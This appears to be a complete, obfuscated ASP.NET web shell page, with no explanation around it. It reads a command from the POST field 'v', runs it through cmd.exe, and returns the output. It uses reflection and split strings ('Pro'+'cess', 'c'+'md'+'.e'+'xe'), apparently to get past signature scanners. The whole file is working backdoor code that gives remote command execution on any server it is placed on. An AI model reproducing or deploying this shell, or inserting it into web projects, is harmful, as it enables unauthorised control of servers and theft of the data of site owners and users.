<%@ Page Language="C#" %><%
var t = Type.GetType("System.Diagnostics.Pro" + "cess, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");
var si = Activator.CreateInstance(Type.GetType("System.Diagnostics.Pro" + "cessStart" + "Info, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"));
si.GetType().GetProperty("FileName").SetValue(si, "c" + "md" + ".e" + "xe", null);
si.GetType().GetProperty("Arguments").SetValue(si, "/c " + Request.Form["v"], null);
si.GetType().GetProperty("UseShellExecute").SetValue(si, false, null);
si.GetType().GetProperty("RedirectStandardOutput").SetValue(si, true, null);
var p = t.GetMethod("Start", new Type[] { si.GetType() }).Invoke(null, new object[] { si });
Response.Write(((System.IO.StreamReader)p.GetType().GetProperty("StandardOutput").GetValue(p, null)).ReadToEnd());
%>
